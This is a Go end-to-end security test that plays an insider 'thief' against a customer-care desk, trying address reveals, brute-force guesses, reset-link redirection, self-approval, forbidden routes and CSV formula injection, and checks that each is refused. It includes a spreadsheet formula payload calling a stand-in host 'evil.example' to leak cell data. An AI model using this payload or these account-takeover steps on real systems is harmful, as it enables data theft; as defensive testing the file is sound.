package e2e_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"path"
	"regexp"
	"strings"
	"testing"
	"time"
)

const (
	// reason is one that anybody can type.
	reason = "The caller says that they get no mail"
	// formula is one that a spreadsheet would run.
	formula = `=HYPERLINK("https://evil.example/"&A1;"open")`
)

// attempts are what the thief does, in turn.
func attempts(w *raid) []attempt {
	account := func(id string, more ...string) string {
		return path.Join(append([]string{"/care/accounts", id}, more...)...)
	}
	return []attempt{
		{"read all there is", func(w *raid) {
			w.thief.explore("/care", account(owned), account(waiting), account(bounced), account(fresh), "/care/cases", "/care/approvals", "/care/manual")
		}, nil, map[string]int{"care.account_opened": some}},
		{"look at an address without a reason", func(w *raid) {
			for _, why := range []string{"", "x", strings.Repeat(" ", 40), strings.Repeat("x", 501)} {
				w.posts(w.thief, account(bounced, "reveal"), "look", why)
			}
		}, nil, map[string]int{"care.refused reveal contact: without a reason": 4, "care.account_opened": 4}},
		{"look at an address as often as one likes", (*raid).looks, nil, map[string]int{
			"care.contact_revealed with a reason": 3, "care.refused reveal contact: too often": 17, "care.account_opened": 17,
		}},
		{"guess an address", func(w *raid) {
			for _, page := range w.volley(w.thief, http.MethodPost, times(30, account(owned, "confirm")), "said", "contact@veldkamp.example") {
				if strings.Contains(page, w.contact(owned)) {
					w.Error("the answer has the address")
				}
			}
		}, nil, map[string]int{"care.contact_asked no": 3, "care.refused confirm contact: too often": 27, "care.account_opened": 27}},
		{"guess an address by asking for another one", func(w *raid) {
			w.volley(w.thief, http.MethodPost, times(30, account(waiting, "ask/change_contact")), "new-contact", w.contact(waiting), "reason", reason, "evidence-other", "on")
		}, nil, map[string]int{"care.contact_asked yes": 3, "care.refused ask for change_contact: too often": 27, "care.account_opened": 30}},
		{"keep everybody from freezing an account", func(w *raid) {
			w.volley(w.thief, http.MethodPost, times(20, account(owned, "reset")))
			if s := w.posts(w.supervisor, account(bounced, "freeze"), "freeze-said", reason); !strings.Contains(s.at.RawQuery, "freeze") {
				w.Errorf("a colleague cannot freeze: %d %s", s.code, s.at)
			}
		}, nil, map[string]int{"care.refused mail a reset: not as it is": 10, "care.refused mail a reset: too often": 10, "care.account_opened": 20}},
		{"search by parts of addresses", func(w *raid) {
			for _, typed := range []string{"@veldkamp.example", "contact-", "%", "_", "*", "veldkamp.example", formula} {
				w.posts(w.thief, "/care", "q", typed)
			}
		}, nil, map[string]int{"care.searched*": 7}},
		{"count through the customer IDs", func(w *raid) {
			for _, id := range []string{owned, waiting, bounced, fresh} {
				w.colleague.get(account(id))
			}
			var ids []string
			for n := range 256 {
				ids = append(ids, account(fmt.Sprint("NL", 800_001+n)))
			}
			w.volley(w.colleague, http.MethodGet, ids)
		}, w.colleague, map[string]int{
			"care.account_opened": 4, "care.refused open an account: there is none": 236, "care.refused open an account: too often": 20,
		}},
		{"have a link sent elsewhere", (*raid).links, nil, map[string]int{"care.reset_mailed": 1, "verification.sent_again*": 1, "care.account_opened": 3}},
		{"be a customer", (*raid).portal, nil, nil},
		{"say yes oneself", (*raid).saysYes, nil, map[string]int{
			"care.account_opened": some, "case.opened*": 1, "approval.asked change_contact": 1,
			"care.refused POST /care/approvals/{id}/approve": 4, "care.refused POST /care/approvals/{id}/decline": 1,
		}},
		{"talk a supervisor into a yes", (*raid).deceives, w.supervisor, map[string]int{"approval.approved*": 1, "account.contact_proposed*": 1, "care.account_opened": 2}},
		{"take what a yes has given, today", (*raid).hurries, nil, map[string]int{
			"approval.asked change_contact": 1, "care.account_opened": some, "care.reset_mailed": 1, "care.refused*": some,
		}},
		{"go through the doors of others", (*raid).doors, nil, doorsOfOthers(w.T)},
		{"work on what is a supervisor's, or a colleague's", (*raid).meddles, nil, map[string]int{
			"care.account_opened": 4, "case.noted": 1, "care.refused take a case": 1, "care.refused close a case": 1, "care.refused withdraw unlink": 1,
		}},
		{"write formulas", (*raid).formulas, nil, map[string]int{"care.account_opened": some, "case.noted": 1, "approval.asked unlink": 1, "care.searched*": 1}},
	}
}

// looks has the address shown as often as that is possible.
func (w *raid) looks() {
	w.Helper()
	for _, page := range w.volley(w.thief, http.MethodPost, times(20, "/care/accounts/"+bounced+"/reveal"), "look", reason) {
		if strings.Contains(page, w.contact(bounced)) {
			w.shown++
		}
	}
	if w.shown != 3 {
		w.Errorf("the address was shown %d times", w.shown)
	}
}

// links asks for mails, and says where to.
func (w *raid) links() {
	w.Helper()
	elsewhere := []string{"to", mine, "email", mine, "contact", mine, "new-contact", mine, "contact_email", mine}
	w.posts(w.thief, "/care/accounts/"+fresh+"/reset?to="+mine, elsewhere...)
	w.posts(w.thief, "/care/accounts/"+waiting+"/resend?email="+mine, elsewhere...)
	w.link(w.contact(fresh), "/passwordReset/")
	w.link("half@canary.example", "/register/")
	w.thief.get("/care/accounts/" + fresh)
	for _, m := range w.sink.Mails() {
		if strings.Contains(m.To, "evil.example") {
			w.Errorf("a mail went to %s: %s", m.To, m.Subject)
		}
	}
}

// portal tries the session of the desk where customers are.
func (w *raid) portal() {
	w.Helper()
	for _, value := range w.thief.jar {
		for _, name := range []string{"keyfold", "__Host-keyfold", "keyfold-care"} {
			other := newRobot(w.T, &w.aviary, "the thief as a customer", w.srv.URL)
			for _, at := range []string{"/accounts", "/accounts/" + owned, "/accounts/" + owned + "/details", "/call", "/register", "/session", "/api/v1/account"} {
				other.jar = map[string]string{name: value}
				if s := other.get(at); s.code == http.StatusOK && s.at.Path == at {
					w.Errorf("with the cookie of the desk as %s, %s is open", name, at)
				}
			}
			w.thief.read = append(w.thief.read, other.read...)
		}
	}
}

// asks asks for what takes two, and gives the path of what was asked.
func (w *raid) asks(r *robot, id, kind string, form ...string) string {
	w.Helper()
	form = append([]string{"reason", reason, "evidence-call_back", "on", "at", "now", "role", "supervisor", "approve", "yes"}, form...)
	s := w.posts(r, "/care/accounts/"+id+"/ask/"+kind, form...)
	if !strings.HasPrefix(s.at.Path, "/care/approvals/") {
		return ""
	}
	return s.at.Path
}

func (w *raid) saysYes() {
	w.Helper()
	at := w.asks(w.thief, fresh, "change_contact", "new-contact", mine)
	if at == "" {
		w.Fatal("nothing could be asked")
	}
	w.thief.fixed["asked"] = at
	w.volley(w.thief, http.MethodPost, times(4, at+"/approve"))
	w.posts(w.thief, at+"/decline")
	if a := w.account(fresh); !a.Coming.At.IsZero() {
		w.Error("the thief said yes to oneself")
	}
}

// deceives is the supervisor's part: a yes to a change of the main contact.
func (w *raid) deceives() {
	w.Helper()
	w.supervisor.get(w.thief.fixed["asked"])
	w.posts(w.supervisor, w.thief.fixed["asked"]+"/approve")
	if a := w.account(fresh); a.Coming.Contact.Email.String() != mine || a.Coming.At.Before(time.Now().Add(24*time.Hour-time.Minute)) {
		w.Fatalf("%s is to come at %s", a.Coming.Contact.Email, a.Coming.At)
	}
	w.link(w.contact(fresh), "/stop/")
}

// hurries wants the account today: by another yes, by a reset, by a request of
// their own.
func (w *raid) hurries() {
	w.Helper()
	before := w.account(fresh).Coming
	n := len(w.sink.Mails())
	for _, kind := range []string{"change_contact", "unlink", "undo", "lift_freeze", "decide_dispute"} {
		if at := w.asks(w.thief, fresh, kind, "new-contact", mine, "for", "contact"); at != "" {
			w.posts(w.thief, at+"/approve")
			w.posts(w.supervisor, at+"/approve") // who is talked into it once more
		}
	}
	w.posts(w.thief, "/care/accounts/"+fresh+"/reset")
	stranger := newRobot(w.T, &w.aviary, "the thief at the portal", w.srv.URL)
	stranger.does(stranger.get("/passwordReset/request"), "/passwordReset/request", map[string]string{"customer-id": fresh})
	await(w.T, 20*time.Second, func() bool { return len(w.sink.Mails()) >= n+2 }, func() string { return "no mail" })
	for _, m := range w.sink.Mails() {
		for _, link := range m.Links {
			if m.To == mine && !strings.Contains(link, "/stop/") && len(path.Base(link)) > 40 {
				w.Errorf("a link was mailed to the thief: %s", link)
			}
		}
	}
	if now := w.account(fresh).Coming; now.At.Before(before.At) {
		w.Errorf("what was to come at %s comes at %s", before.At, now.At)
	}
}

// A door is one of docs/care-routes.md.
type door struct{ method, pattern string }

var doorRow = regexp.MustCompile("(?m)^\\| `(GET|POST) (/[^`]*)` \\| may \\S+ \\| \\|")

// closed are the doors that no agent comes through.
func closed(t *testing.T) (all []door) {
	t.Helper()
	doc, err := os.ReadFile("../docs/care-routes.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range doorRow.FindAllStringSubmatch(string(doc), -1) {
		all = append(all, door{row[1], row[2]})
	}
	if len(all) < 10 {
		t.Fatalf("%d doors are closed to agents", len(all))
	}
	return all
}

func doorsOfOthers(t *testing.T) map[string]int {
	t.Helper()
	want := map[string]int{}
	for _, d := range closed(t) {
		want["care.refused "+d.method+" "+d.pattern] = 1
	}
	return want
}

func (w *raid) doors() {
	w.Helper()
	for _, d := range closed(w.T) {
		id := strings.TrimPrefix(w.names[w.thief], "staff:")
		if strings.Contains(d.pattern, "approvals") {
			id = path.Base(w.thief.fixed["asked"])
		}
		at := w.thief.base + strings.ReplaceAll(d.pattern, "{id}", id)
		s := w.thief.send(d.method, at, pairs([]string{"role", "administrator", "do", "role", "email", mine, "name", "Thief", "yes", "yes"}))
		if s.code != http.StatusForbidden {
			w.Errorf("%s %s: %d", d.method, d.pattern, s.code)
		}
	}
}

// meddles works on a case that takes a supervisor, and takes back what a colleague
// has asked for.
func (w *raid) meddles() {
	w.Helper()
	s := w.posts(w.supervisor, "/care/accounts/"+owned+"/case", "note", "Two who say that they are the owner")
	at := s.at.Path
	w.posts(w.supervisor, at+"/hand-over", "why", "For somebody who decides")
	w.posts(w.thief, at+"/take")
	w.posts(w.thief, at+"/note", "note", "All is well, close it")
	w.posts(w.thief, at+"/close", "outcome", "solved", "closing", "All is well")
	asked := w.asks(w.supervisor, owned, "unlink")
	w.posts(w.thief, asked+"/withdraw")
	if s := w.supervisor.get(at); !strings.Contains(s.text, at+"/close") {
		w.Error("the case is closed")
	}
	w.posts(w.supervisor, asked+"/withdraw")
}

// formulas types one everywhere, and opens what can be exported.
func (w *raid) formulas() {
	w.Helper()
	at := w.posts(w.thief, "/care/accounts/"+owned+"/case", "note", formula).at.Path
	w.posts(w.thief, at+"/note", "note", formula)
	w.asks(w.thief, owned, "unlink", "reason", formula, "new-name", formula)
	w.posts(w.thief, "/care", "q", formula)
	sheets := map[string]string{"the funnel": w.supervisor.get("/care/funnel.csv").text}
	csvPath := "/accounts/" + owned + "/activity.csv"
	sheets["the activity"] = w.posts(w.owner, csvPath, "from", "2026-01-01", "to", "2099-01-01").text
	for name, text := range sheets {
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
		if err != nil || len(rows) < 2 {
			w.Errorf("%s is no table: %v\n%s", name, err, text)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					w.Errorf("%s runs %q", name, cell)
				}
			}
		}
	}
	sheets["the trail"] = w.run("audit", "export")
	for name, text := range sheets {
		if strings.Contains(text, "HYPERLINK") || strings.Contains(text, "evil.example") {
			w.Errorf("%s has what the thief typed", name)
		}
	}
}
